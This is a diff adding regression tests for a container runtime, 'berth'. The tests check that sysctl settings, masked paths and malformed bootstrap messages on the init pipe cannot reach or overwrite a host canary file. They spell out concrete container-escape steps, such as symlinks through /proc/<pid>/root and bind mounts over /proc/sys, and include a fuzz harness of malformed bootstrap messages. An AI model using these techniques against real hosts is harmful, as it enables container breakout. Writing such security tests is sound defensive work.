+	cp "$BUNDLE/config.json" "$TESTDIR/config.orig"
+	add_mount '{"destination": "/proc/sys", "type": "tmpfs", "source": "tmpfs"}'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "tmpfs: $status $output"
+	[ "$status" -ne 0 ] || [ "$output" = 1 ] || fail "sysctl written into the tmpfs: $output"
+	cp "$TESTDIR/config.orig" "$BUNDLE/config.json"
+
+	# 2. A host file bound over the sysctl's procfs file.
+	add_mount "{\"destination\": \"/proc/sys/net/ipv4/ip_forward\", \"type\": \"bind\", \"source\": \"$CANARY\", \"options\": [\"bind\"]}"
+	# Mechanics: in the container, that path now is the host file.
+	update_config 'del(.linux.sysctl)'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(tail -n1 <<<"$CANARY_SIG")" ]
+	update_config '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "bind: $status $output"
+	assert_canary_intact
+	cp "$TESTDIR/config.orig" "$BUNDLE/config.json"
+
+	# 3. The image's own "procfs" directory bound over /proc/sys/net/ipv4,
+	# whose ip_forward is a symlink through the real procfs (the host's
+	# pid namespace: /proc/<pid of this test's shell> is a host process)
+	# to the host file.
+	mkdir -p "$BUNDLE/rootfs/fakeipv4"
+	ln -s "/proc/$BASHPID/root$CANARY" "$BUNDLE/rootfs/fakeipv4/ip_forward"
+	update_config '.linux.namespaces |= map(select(.type != "pid"))'
+	add_mount '{"destination": "/proc/sys/net/ipv4", "type": "bind", "source": "rootfs/fakeipv4", "options": ["bind"]}'
+	# Mechanics: a privileged process there reads the host file through it.
+	update_config 'del(.linux.sysctl) | .process.capabilities.effective += ["CAP_SYS_PTRACE"]
+		| .process.capabilities.permitted += ["CAP_SYS_PTRACE"] | .process.capabilities.bounding += ["CAP_SYS_PTRACE"]'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "mechanics: $status $output"
+	[ "$status" -eq 0 ]
+	[ "$output" = "$(tail -n1 <<<"$CANARY_SIG")" ]
+	update_config '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "symlink: $status $output"
+	assert_canary_intact
+}
+
+# The bootstrap cases: a name and the bytes berth init gets on its socket
+# (hex; the header is u32 magic "BRTH" 0x48545242, u32 body length, then
+# attributes u16 type, u16 pad, u32 len, value; all little-endian).
+BOOTSTRAP_PY='
+import os, socket, struct, subprocess, sys
+
+berth = sys.argv[1]
+MAGIC = 0x48545242
+def attr(t, v, ln=None):
+    return struct.pack("<HHI", t, 0, len(v) if ln is None else ln) + v
+def msg(body, ln=None):
+    return struct.pack("<II", MAGIC, len(body) if ln is None else ln) + body
+cases = {
+    "empty": b"",
+    "short-header": b"BRT",
+    "bad-magic": struct.pack("<II", 0xdeadbeef, 0),
+    "huge-length": msg(b"", 0xffffffff),
+    "over-max-length": msg(b"", 65537),
+    "truncated-body": msg(b"\x01\x00", 100),
+    "attr-len-past-body": msg(attr(1, b"", 1000)),
+    "attr-header-cut": msg(b"\x01\x00\x00"),
+    "join-without-path": msg(attr(2, struct.pack("<I", 0x20000000))),
+    "join-path-too-long": msg(attr(2, struct.pack("<I", 0x20000000) + b"/" * 5000)),
+    "unknown-attr": msg(attr(99, b"abcd")),
+    "repeated-clone-flags": msg(attr(1, struct.pack("<I", 0)) + attr(1, struct.pack("<I", 0))),
+    "clone-flags-short": msg(attr(1, b"\x00\x00")),
+    "idmap-without-userns": msg(attr(3, b"\x01")),
+    "timens-without-newtime": msg(attr(4, b"monotonic 1 0")),
+}
+for name, data in cases.items():
+    parent, child = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+    p = subprocess.Popen([berth, "init"], env={"_BERTH_INITPIPE": str(child.fileno())},
+                         pass_fds=[child.fileno()], stdin=subprocess.DEVNULL,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    child.close()
+    try:
+        parent.sendall(data)
+    except OSError:
+        pass
+    parent.shutdown(socket.SHUT_WR)
+    reply = b""
+    parent.settimeout(10)
+    try:
+        while True:
+            b = parent.recv(65536)
+            if not b:
+                break
+            reply += b
+    except OSError:
+        pass
+    try:
+        rc = p.wait(timeout=10)
+    except subprocess.TimeoutExpired:
+        p.kill()
+        rc = "hang"
+    err = p.stderr.read().decode(errors="replace").strip().replace("\n", " | ")
+    kind = struct.unpack("<I", reply[:4])[0] if len(reply) >= 4 else None
+    print("%s rc=%s reply-type=%s stderr=%s" % (name, rc, kind, err[:120]))
+    parent.close()
+'
+
+@test "CVE-2021-43784: berth init given a malformed bootstrap message on _BERTH_INITPIPE exits 1 with an error, never crashes" {
+	run python3 -c "$BOOTSTRAP_PY" "$BERTH"
+	echo "$output"
+	[ "$status" -eq 0 ]
+	[ "${#lines[@]}" -eq 15 ]
+	local l
+	for l in "${lines[@]}"; do
+		# Exit status 1 (a signal would be negative, a hang "hang") and an
+		# ERROR record (type 2) on the socket.
+		[[ $l == *" rc=1 reply-type=2 "* ]] || fail "not a clean error: $l"
+	done
+
+	# Not an fd at all: exit 1 with a message on stderr.
+	run env _BERTH_INITPIPE=notanfd "$BERTH" init
+	[ "$status" -eq 1 ]
+	[[ $output == *_BERTH_INITPIPE* ]]
+	run env _BERTH_INITPIPE=987 "$BERTH" init
+	[ "$status" -eq 1 ]
+	[[ $output == *"not an open fd"* ]]
+}
+
+@test "CVE-2025-31133: a maskedPaths entry that is a symlink to a host path masks inside the rootfs only" {
+	make_canary
+	local r=$BUNDLE/rootfs rel
+	ln -s "$CANARY" "$r/etc/leak"
+	rel=$(realpath --relative-to="$r/etc" "$CANARY")
+	ln -s "../../../../../../../../..$CANARY" "$r/etc/leak-rel"
+	ln -s "$rel" "$r/etc/leak-rel2"
+	# Mechanics: resolved by the host, each leads to the host file.
+	[ "$(readlink -f "$r/etc/leak")" = "$CANARY" ]
+	[ "$(readlink -f "$r/etc/leak-rel")" = "$CANARY" ]
+	[ "$(readlink -f "$r/etc/leak-rel2")" = "$CANARY" ]
+	# The container's namesake of the host file.
+	mkdir -p "$r${CANARY%/*}"
+	echo inside >"$r$CANARY"
+	update_config '.linux.maskedPaths += ["/etc/leak", "/etc/leak-rel", "/etc/leak-rel2"]'
+	set_args sh -c "cat $CANARY | wc -c; stat -c %t:%T $CANARY"
+	id=$(new_id)
+	run berth run --bundle "$BUNDLE" "$id"
+	echo "$output"
+	# Either refused, or the in-rootfs namesake is what got masked.
+	if [ "$status" -eq 0 ]; then
+		[ "$output" = "$(printf '0\n1:3')" ]
+	fi
+	assert_canary_intact
+	[ "$(cat "$r$CANARY")" = inside ]
+}
